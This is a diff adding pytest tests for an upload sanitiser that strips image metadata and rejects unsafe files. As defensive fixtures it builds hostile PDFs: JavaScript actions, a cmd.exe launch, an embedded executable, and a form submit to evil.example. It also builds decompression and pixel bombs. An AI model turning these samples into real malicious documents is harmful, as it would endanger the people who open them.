@@ -1,0 +1,196 @@
+"""formats/uploads.py: what people send in, and what of it may be kept."""
+
+import io
+import zlib
+
+import pikepdf
+import pillow_heif
+import pytest
+from PIL import Image
+
+from rxportal.formats import inspection, uploads
+from rxportal.formats.uploads import cleaned
+
+pytestmark = [
+    pytest.mark.asvs("5.2.2", "5.2.6"),
+    pytest.mark.filterwarnings("ignore::pikepdf.exceptions.PageCopyWarning"),
+]
+PLACE = "52 deg north"
+
+
+def picture(kind="JPEG", size=(40, 20), **more):
+    """A picture that says where and how it was taken, on its side."""
+    exif = Image.Exif()
+    exif[0x010E], exif[0x0112] = PLACE, 6
+    out = io.BytesIO()
+    if kind == "HEIF":
+        pillow_heif.register_heif_opener()
+    Image.new("RGB", size, "red").save(out, kind, exif=exif.tobytes(), **more)
+    return out.getvalue()
+
+
+def pdf(change=None, **save):
+    made = pikepdf.new()
+    made.add_blank_page(page_size=(200, 200))
+    if change:
+        change(made)
+    out = io.BytesIO()
+    made.save(out, **save)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("kind", "kept"),
+    [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("HEIF", "image/jpeg")],
+)
+def test_a_picture_is_drawn_anew_upright_and_tells_no_place(kind, kept):
+    sent = picture(kind)
+    assert PLACE.encode() in sent
+    clean = cleaned(sent)
+    assert clean.media_type == kept
+    assert PLACE.encode() not in clean.content
+    with Image.open(io.BytesIO(clean.content)) as made:
+        assert not made.getexif()
+        if kind == "JPEG":
+            assert made.size == (20, 40)
+        red, green, blue = made.convert("RGB").getpixel((5, 5))
+        assert red > 200
+        assert max(green, blue) < 60
+
+
+def test_what_hides_behind_a_picture_goes():
+    assert b"<script>" not in cleaned(picture() + b"<script>alert(1)</script>").content
+
+
+def test_a_see_through_picture_stays_so():
+    out = io.BytesIO()
+    Image.new("RGBA", (4, 4), (255, 0, 0, 128)).save(out, "PNG")
+    with Image.open(io.BytesIO(cleaned(out.getvalue()).content)) as made:
+        assert made.getpixel((1, 1)) == (255, 0, 0, 128)
+
+
+def test_a_plain_pdf_is_kept_to_the_byte():
+    sent = pdf()
+    clean = cleaned(sent)
+    assert (clean.content, clean.media_type, clean.suffix) == (sent, "application/pdf", ".pdf")
+
+
+def script(made):
+    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+
+
+def named_script(made):
+    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
+    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", action]))
+
+
+def program(made):
+    made.pages[0].AA = pikepdf.Dictionary(
+        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
+    )
+
+
+def attachment(made):
+    made.attachments["factuur.exe"] = b"MZ"
+
+
+def form(made):
+    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=[])
+
+
+def sent_elsewhere(made):
+    note = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Widget,
+        Rect=[0, 0, 1, 1],
+        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example"),
+    )
+    made.pages[0].Annots = [note]
+
+
+@pytest.mark.parametrize(
+    "change", [script, named_script, program, attachment, form, sent_elsewhere]
+)
+def test_a_pdf_in_which_something_acts_is_refused(change):
+    with pytest.raises(uploads.Active):
+        cleaned(pdf(change))
+    packed = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    with pytest.raises(uploads.Active):
+        cleaned(packed)
+
+
+def test_a_link_to_a_site_and_a_first_page_are_harmless():
+    def change(made):
+        made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
+        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.nl")
+        made.pages[0].Annots = [
+            pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 1, 1], A=link)
+        ]
+
+    assert cleaned(pdf(change)).media_type == "application/pdf"
+
+
+@pytest.mark.parametrize("user", ["", "geheim"])
+def test_a_pdf_behind_a_password_is_refused(user):
+    with pytest.raises(uploads.Locked):
+        cleaned(pdf(encryption=pikepdf.Encryption(owner="baas", user=user)))
+
+
+@pytest.mark.parametrize(
+    "content", [b"", b"<html>", b"GIF89a", b"MZ", b" %PDF-1.7", b"PK\x03\x04", b"<svg/>"]
+)
+def test_another_kind_is_refused(content):
+    with pytest.raises(uploads.WrongKind):
+        cleaned(content)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"%PDF-1.7 nothing",
+        b"\x89PNG\r\n\x1a\n" + b"x" * 100,
+        b"\xff\xd8\xff\xe0" + b"x" * 100,
+        b"\x00\x00\x00\x18ftypheic" + b"x" * 100,
+        picture()[:300],
+    ],
+    ids=["pdf", "png", "jpeg", "heic", "half a picture"],
+)
+def test_what_cannot_be_opened_is_refused(content):
+    with pytest.raises(uploads.Damaged):
+        cleaned(content)
+
+
+@pytest.mark.asvs("5.2.3")
+def test_a_picture_of_more_pixels_than_a_camera_makes_is_refused():
+    """41 million pixels of one colour are 125 KB."""
+    out = io.BytesIO()
+    Image.new("1", (8200, 5000)).save(out, "PNG")
+    assert len(out.getvalue()) < 200_000
+    with pytest.raises(uploads.Damaged):
+        cleaned(out.getvalue())
+
+
+@pytest.mark.asvs("5.2.3")
+def test_a_pdf_that_unpacks_to_gigabytes_ends_its_own_process_only():
+    """The table of its objects is two gigabytes of zeros, packed."""
+    zeros = zlib.compressobj(9)
+    packed = b"".join(zeros.compress(bytes(1 << 20)) for _ in range(2048)) + zeros.flush()
+    assert len(packed) < 3 * 1024 * 1024
+    head = b"%PDF-1.5\n"
+    body = (
+        b"1 0 obj\n<< /Type /XRef /Size 2 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode "
+        b"/Length %d >>\nstream\n" % len(packed)
+    )
+    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % len(head)
+    with pytest.raises(uploads.Damaged):
+        cleaned(head + body + packed + end)
+
+
+def test_ten_megabytes_and_no_more():
+    with pytest.raises(uploads.TooLarge):
+        cleaned(picture() + bytes(uploads.LARGEST))
+
+
+def test_each_kind_is_known_by_its_first_bytes():
+    assert inspection.kind_of(picture("HEIF")) is inspection.HEIC
+    assert inspection.kept_as(inspection.HEIC) is inspection.JPEG
